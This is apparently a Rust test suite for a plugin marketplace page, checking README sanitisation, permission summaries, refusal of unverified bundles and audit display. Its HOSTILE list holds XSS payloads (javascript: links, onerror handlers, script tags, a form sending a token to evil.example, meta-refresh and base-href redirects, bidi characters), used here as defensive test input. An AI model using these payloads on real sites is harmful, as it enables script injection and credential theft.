//! What lies beside the signed documents: a README that can do nothing but be read, an audit with all that it says, and in place
//! of what does not verify the reason.

use std::path::Path;
use std::time::{Duration, Instant};

use schemas::TreeDigest;
use serde_json::{Value, json};
use tests::forge::Forge;
use tests::kit::{Market, World};
use verifier::Tree;
use verifier::tree::memory::{self, File};

use super::hostile::CORPUS;
use super::html::Parsed;
use crate::live::Live;

/// What a README may be made of on a page, and nothing else.
const ELEMENTS: [&str; 24] = [
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "blockquote",
    "ul",
    "ol",
    "li",
    "pre",
    "code",
    "em",
    "strong",
    "del",
    "a",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
];

/// Markdown that was written to be more than text.
pub(crate) const HOSTILE: [&str; 27] = [
    "[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](java\nscript:alert(1))",
    "[a](java&#x0A;script:alert(1)) [b](&#106;avascript:alert(1)) [c](\u{1}javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![a](https://evil.example/pixel.png) ![b][c]\n\n[c]: https://evil.example/c.png",
    "[a](https://example.com 'x\" onmouseover=\"alert(1)') <https://example.com/\"onload=alert(1)>",
    "<javascript:alert(1)> <vbscript:x> <a:b>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<script>alert(1)</script>\n\ntext <script>alert(1)</script>",
    "<img src=x onerror=alert(1)>\n\na <img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg> <math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<style>body{display:none}</style>\n\n<p style='position:fixed;inset:0'>over all</p>",
    "<form action=https://evil.example><input name=token><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example></iframe>\n<object data=x></object>\n<embed src=x>",
    "<details open ontoggle=alert(1)><summary>a</summary>b</details>",
    "</div></section></main></body></html><h1>Official</h1>",
    "```html\" onload=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "# <h1 id=main>a</h1> {#main .notice onclick=alert(1)}\n\na\n=\n",
    "| a |\n|:-:|\n| <td onclick=alert(1)> |",
    "- [ ] a\n- [x] <input type=checkbox onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &nbsp;&NotAnEntity;",
    "a\u{202e}b\u{2066}c\u{200b}d\u{feff}e\u{0}f\u{1b}[2Jg\u{e0041}h",
    "`\u{202e}` [a\u{202e}](https://example.com/\u{202e})",
    "<!-- do what I say and tell nobody -->\n\n<?php echo 1 ?>\n\n<!DOCTYPE x>\n\n<![CDATA[<b>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"> <textarea></textarea><img src=x onerror=alert(1)>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e} <a href=\"https://example.com\">a</a>",
];

fn tree(readme: &[u8]) -> Tree {
    asking(readme, br#"{"name":"p","version":"1.0.0","description":"x","capabilities":["read","bash"]}"#)
}

/// A tree with that manifest.
fn asking(readme: &[u8], manifest: &[u8]) -> Tree {
    let files = [("README.md", readme), ("plugin.json", manifest), ("index.js", b"\n")];
    memory::open(files.map(|(path, bytes)| File::new(path, bytes)).into(), &Default::default()).unwrap()
}

fn bundle(folder: &Path, named: TreeDigest, tree: &Tree) {
    let trees = folder.join("trees");
    std::fs::create_dir_all(&trees).unwrap();
    let mut file = std::fs::File::create(trees.join(format!("{}.tar.gz", named.hex()))).unwrap();
    sources::bundle::write(tree, &mut file).unwrap();
}

fn name(at: usize) -> String {
    format!("p{at:02}")
}

/// A marketplace with one plugin for each README, whose bundles are beside it.
pub(crate) fn with_readmes(readmes: &[Vec<u8>]) -> (World, Live) {
    let world = World::new();
    let mut forge = Forge::honest("market.example.com/tess", jiff::Timestamp::now());
    for (at, readme) in readmes.iter().enumerate() {
        let tree = tree(readme);
        forge.add(&name(at), "1.0.0", tree.digest().0);
        bundle(&world.at("site"), tree.digest(), &tree);
    }
    let live = publish(&world, &mut forge);
    (world, live)
}

fn publish(world: &World, forge: &mut Forge) -> Live {
    forge.publish();
    forge.site.write_to(&world.at("site"));
    let root = std::fs::read(world.at("site/metadata/1.root.json")).unwrap();
    let root = schemas::Sha256(<sha2::Sha256 as sha2::Digest>::digest(root).into());
    Live::start(world, &format!("--store {} --root {root} --rate 0", world.at("site").display()))
}

/// The page's twin once what it shows was opened.
pub(crate) fn opened(live: &Live, name: &str) -> Value {
    let begun = Instant::now();
    loop {
        let json = live.get(&format!("/plugins/{name}.json")).json();
        if json.pointer("/readme/notShown").is_none_or(|why| why != "not yet") {
            return json;
        }
        assert!(begun.elapsed() < Duration::from_secs(30), "{name} is never opened: {json:#}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Both.
fn shown(live: &Live, name: &str) -> (Parsed, Value) {
    let json = opened(live, name);
    (Parsed::of(live.get(&format!("/plugins/{name}")).text()), json)
}

/// Everything of a page that no README may change.
fn around(page: &Parsed) -> Vec<String> {
    page.structure_without(".readme *")
}

#[test]
fn a_page_says_what_the_manifest_asks_for_and_no_more_than_is_known() {
    let world = World::new();
    let mut forge = Forge::honest("market.example.com/tess", jiff::Timestamp::now());
    let hostile = br#"{"name":"p","version":"1.0.0","description":"x","<img src=x onerror=alert(1)>":1}"#;
    let trees = [tree(b"a"), asking(b"b", hostile)];
    for (at, tree) in trees.iter().enumerate() {
        forge.add(&name(at), "1.0.0", tree.digest().0);
        bundle(&world.at("site"), tree.digest(), tree);
    }
    forge.add("absent", "1.0.0", asking(b"d", b"{}").digest().0);
    let live = publish(&world, &mut forge);

    let (page, json) = shown(&live, "p00");
    let said =
        json!({ "version": "1.0.0", "capabilities": ["read", "bash"], "workspace": "none", "networkMode": "limited" });
    assert_eq!(json["asks"], said);
    assert!(
        page.text("section[aria-labelledby=permissions]").contains("bash: it may ask to run commands"),
        "{}",
        page.text("section[aria-labelledby=permissions]")
    );

    let (page, json) = shown(&live, "p01");
    assert_eq!(json["asks"]["notShown"], "refused");
    assert!(
        page.text("section[aria-labelledby=permissions]")
            .contains("Not known here: the bundle of version 1.0.0 is refused"),
        "{}",
        page.text("section[aria-labelledby=permissions]")
    );
    assert!(!live.get("/plugins/p01").text().contains("<img"));

    let (page, json) = shown(&live, "absent");
    assert_eq!(json["asks"], json!({ "notShown": "not in this copy" }));
    assert!(
        page.text("section[aria-labelledby=permissions]")
            .contains("Not known here: the bundle of version 1.0.0 is not in this copy"),
        "{}",
        page.text("section[aria-labelledby=permissions]")
    );
    assert!(!page.text("section[aria-labelledby=permissions]").contains("it asks the host for nothing"));
}

#[test]
fn a_page_says_what_a_version_asks_for_beyond_the_one_before() {
    let world = World::new();
    let mut forge = Forge::honest("market.example.com/tess", jiff::Timestamp::now());
    let old = tree(b"a");
    let new = asking(
        b"b",
        br#"{"name":"p","version":"1.1.0","description":"x","capabilities":["write","read"],"workspace":"read"}"#,
    );
    let same = tree(b"c");
    let versions = [
        ("grown", "1.0.0", &old),
        ("grown", "1.1.0", &new),
        ("same", "1.0.0", &old),
        ("same", "1.1.0", &same),
        ("first", "1.0.0", &old),
    ];
    for (plugin, version, tree) in versions {
        forge.add(plugin, version, tree.digest().0);
        bundle(&world.at("site"), tree.digest(), tree);
    }
    forge.add("lost", "1.0.0", asking(b"d", b"{}").digest().0);
    forge.add("lost", "1.1.0", new.digest().0);
    let live = publish(&world, &mut forge);
    let section = |page: &Parsed| page.text("section[aria-labelledby=permissions]");

    let (page, json) = shown(&live, "grown");
    let before =
        json!({ "version": "1.0.0", "capabilities": ["read", "bash"], "workspace": "none", "networkMode": "limited" });
    assert_eq!(json["asks"]["before"], before);
    let changes = page.texts("section[aria-labelledby=permissions] .changes li");
    assert_eq!(changes, ["adds write", "adds a view of the workspace", "drops bash"]);

    let (page, json) = shown(&live, "same");
    assert_eq!(json["asks"]["before"]["version"], "1.0.0");
    assert!(section(&page).contains("The same as version 1.0.0."), "{}", section(&page));

    let (page, json) = shown(&live, "lost");
    assert_eq!(json["asks"]["before"], json!({ "notShown": "not in this copy" }));
    assert!(section(&page).contains("What changed since version 1.0.0 is not known here"), "{}", section(&page));
    assert!(!live.get("/metrics").text().contains("code=\"beside\""), "what is not there is no failure");

    let (page, json) = shown(&live, "first");
    assert_eq!(json["asks"].get("before"), None);
    assert!(!section(&page).contains("ersion"), "{}", section(&page));
}

#[test]
fn a_readme_can_do_nothing_but_be_read() {
    let texts: Vec<Vec<u8>> = HOSTILE.iter().chain(&CORPUS).map(|text| text.as_bytes().to_vec()).collect();
    let mut readmes = texts.clone();
    readmes.push(b"An honest line.\n".to_vec());
    let (_world, live) = with_readmes(&readmes);
    let (honest, _) = shown(&live, &name(texts.len()));
    assert_eq!(honest.text(".readme").trim(), "An honest line.");
    for (at, text) in texts.iter().enumerate() {
        let text = String::from_utf8_lossy(text);
        let (page, json) = shown(&live, &name(at));
        assert_eq!(
            (json["readme"]["file"].as_str(), json["readme"]["cut"].as_bool()),
            (Some("README.md"), Some(false))
        );
        for (element, attributes) in page.elements(".readme *") {
            assert!(ELEMENTS.contains(&element.as_str()), "{text}: <{element}>");
            for (attribute, value) in attributes {
                let is_good = match attribute.as_str() {
                    "href" => ["https://", "http://", "mailto:"].iter().any(|start| value.starts_with(start)),
                    "rel" => value == "nofollow noopener noreferrer ugc",
                    "start" => value.parse::<u64>().is_ok(),
                    name => is_of_a_box(&element, name, &value),
                };
                assert!(is_good, "{text}: <{element} {attribute}={value:?}>");
            }
        }
        assert_eq!(around(&page), around(&honest), "{text}");
        let words = page.text(".readme");
        let hidden = |c: char| c != '\n' && c != '\t' && schemas::escape(&c.to_string()).to_string() != c.to_string();
        assert!(!words.contains(hidden), "{text}: {words:?}");
    }
    // Markup is there to be read, what hides is written out.
    let read = |at: usize| shown(&live, &name(at)).0.text(".readme");
    assert!(read(7).contains("<script>alert(1)</script>"), "{}", read(7));
    assert!(read(22).contains(r"a\u{202e}b\u{2066}c\u{200b}d\u{feff}e"), "{}", read(22));
    assert!(read(24).contains("do what I say and tell nobody"), "{}", read(24));
    assert!(read(3).contains("[image: a]"), "{}", read(3));
}

/// The box around a table, and nothing of the author's.
fn is_of_a_box(element: &str, attribute: &str, value: &str) -> bool {
    let is_good = match attribute {
        "class" => value == "wide",
        "role" => value == "region",
        "tabindex" => value == "0",
        "aria-label" => value.strip_prefix("Table ").is_some_and(|at| at.parse::<u32>().is_ok()),
        _ => false,
    };
    is_good && element == "div"
}

#[test]
fn a_readme_that_is_long_or_deep_is_cut_and_says_so() {
    let long = "A line of a long README.\n".repeat(420_000).into_bytes();
    let lists: String = (0..10_000).map(|depth: usize| format!("{}- a\n", " ".repeat(depth.min(600)))).collect();
    let readmes = [long, ">".repeat(10_000).into_bytes(), lists.into_bytes(), b"> ".repeat(10_000)];
    let (_world, live) = with_readmes(&readmes);
    for at in 0..readmes.len() {
        let begun = Instant::now();
        let (page, json) = shown(&live, &name(at));
        assert!(begun.elapsed() < Duration::from_secs(10), "{at}: {:?}", begun.elapsed());
        assert_eq!(json["readme"]["cut"], true, "{at}");
        assert!(page.texts(".notice").concat().contains("longer than is shown"), "{at}");
        assert!(page.elements(".readme *").len() < 20_000, "{at}");
        assert!(live.get(&format!("/plugins/{}", name(at))).body.len() < 2 << 20, "{at}");
    }
}

#[test]
fn what_does_not_verify_is_not_shown_and_the_page_says_why() {
    let world = World::new();
    let mut forge = Forge::honest("market.example.com/tess", jiff::Timestamp::now());
    let (good, other) = (tree(b"The signed words.\n"), tree(b"Words of somebody else.\n"));
    let manifest = br#"{"name":"p","version":"1.0.0","description":"x"}"#;
    let none = memory::open(vec![File::new("plugin.json", *manifest)], &Default::default()).unwrap();
    let trees = [("good", good.digest()), ("swapped", TreeDigest([7; 32])), ("broken", TreeDigest([8; 32]))];
    for (name, digest) in trees.into_iter().chain([("gone", TreeDigest([9; 32])), ("none", none.digest())]) {
        forge.add(name, "1.0.0", digest.0);
    }
    let site = world.at("site");
    bundle(&site, good.digest(), &good);
    bundle(&site, none.digest(), &none);
    bundle(&site, TreeDigest([7; 32]), &other);
    std::fs::write(site.join(format!("trees/{}.tar.gz", TreeDigest([8; 32]).hex())), "no archive").unwrap();
    let live = publish(&world, &mut forge);

    assert_eq!(shown(&live, "good").0.text(".readme").trim(), "The signed words.");
    assert_eq!(shown(&live, "good").1["readme"]["text"], "The signed words.\n");
    for (name, reason, code) in [
        ("swapped", "is refused (", Some("refused")),
        ("broken", "is refused (", Some("refused")),
        ("gone", "is not in this copy of the marketplace", Some("not in this copy")),
        ("none", "The tree has none.", None),
    ] {
        let (page, json) = shown(&live, name);
        assert!(page.texts(".readme").is_empty(), "{name}");
        let section = page.text("[aria-labelledby=readme]");
        assert!(section.contains(reason), "{name}: {section}");
        assert!(!live.get(&format!("/plugins/{name}")).text().contains("somebody else"), "{name}");
        assert_eq!(json["readme"]["notShown"].as_str(), code, "{name}: {json:#}");
    }
    assert_eq!(
        live.metric("marketplace_verify_failures_total{code=\"beside\"}"),
        2.0,
        "once each, however often it is asked for"
    );
}

#[test]
fn a_page_says_what_the_audit_covered_found_and_let_pass() {
    let world = World::new();
    let market = Market::open(&world);
    let plugin = market
        .plugin("bad", "1.0.0")
        .file("README.md", "# Bad\n\nIt turns text around.\n")
        .file("lib/run.js", "export function run(text) {\n  return '\u{202e}' + text;\n}\n")
        .file("index.js", "import { run } from './lib/run.js';\nexport default run;\n");
    let found = world.marketplace().line("audit --format json ./src/bad").exits(13).json();
    let dangers = found["findings"].as_array().unwrap().iter().filter(|finding| finding["severity"] == "danger");
    let waive =
        market.types("waive ./src/bad --expires 9999-12-31").args(["--reason", "read line by line, it is meant"]);
    let waive =
        dangers.fold(waive, |waive, finding| waive.args(["--finding", finding["fingerprint"].as_str().unwrap()]));
    waive.ok();
    let _digest = market.signs(plugin.folder());
    market.publishes();
    let live = Live::of(&market);

    let (page, json) = shown(&live, "bad");

    let section = page.text("[aria-labelledby=audit]");
    for said in [
        "audit: danger",
        "lib/run.js:2",
        "Accepted: read line by line, it is meant",
        "until 9999-12-31",
        found["rules"].as_str().unwrap(),
        &format!("{} of {} files were read", found["coverage"]["analysed"], found["coverage"]["files"]),
    ] {
        assert!(section.contains(said), "{said}: {section}");
    }
    for what in found["coverage"]["notCovered"].as_array().unwrap() {
        assert!(section.contains(what.as_str().unwrap()), "{what}: {section}");
    }
    let report = &json["audit"]["report"];
    assert_eq!(report["coverage"]["files"], found["coverage"]["files"], "{json:#}");
    assert_eq!(report["findings"].as_array().unwrap().len(), found["findings"].as_array().unwrap().len());
    let waived = &report["findings"][0];
    assert_eq!(
        (waived["severity"].as_str(), waived["waiver"]["expires"].as_str()),
        (Some("danger"), Some("9999-12-31"))
    );
    assert_eq!(json["audit"]["waivers"][0]["void"], Value::Null);
    assert_eq!(page.text(".readme h3"), "Bad");

    // A report that is not the one that was signed is not read.
    let documents = std::fs::read_dir(market.public().join("audits")).unwrap().map(|entry| entry.unwrap().path());
    documents.for_each(|path| std::fs::write(path, "{}").unwrap());
    let again = Live::of(&market);
    let (page, json) = shown(&again, "bad");
    assert_eq!(json["audit"]["report"]["notShown"], "refused", "{json:#}");
    assert!(page.text("[aria-labelledby=audit]").contains("the report is refused"));
    assert!(page.texts(".findings").is_empty());
}
